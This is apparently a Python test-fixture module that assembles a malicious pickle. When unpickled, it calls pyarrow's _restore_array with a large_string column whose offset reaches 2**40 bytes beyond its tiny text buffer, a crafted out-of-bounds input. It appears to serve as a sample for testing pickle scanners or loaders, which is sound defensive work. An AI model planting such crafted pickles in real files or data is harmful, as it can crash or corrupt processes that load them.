"""A column of texts has an offset far beyond its text."""

from __future__ import annotations

import struct
from typing import Any

from malicious_samples.recipes import make_call
from tests.builder import Name, Pickle


def model() -> Any:
    raise NotImplementedError("it takes pyarrow to make one; the stream is assembled instead")


def build(canary: str) -> bytes:
    del canary
    offsets = struct.pack("<2q", 0, 2**40)
    buffers = [
        make_call(Name("pyarrow.lib", "py_buffer"), data) for data in (b"\x01", offsets, b"text")
    ]
    kind = make_call(Name("pyarrow.lib", "type_for_alias"), "large_string")
    parts = (kind, 1, 0, 0, buffers, [], None)
    return Pickle(4).call(Name("pyarrow.lib", "_restore_array"), parts).finish()
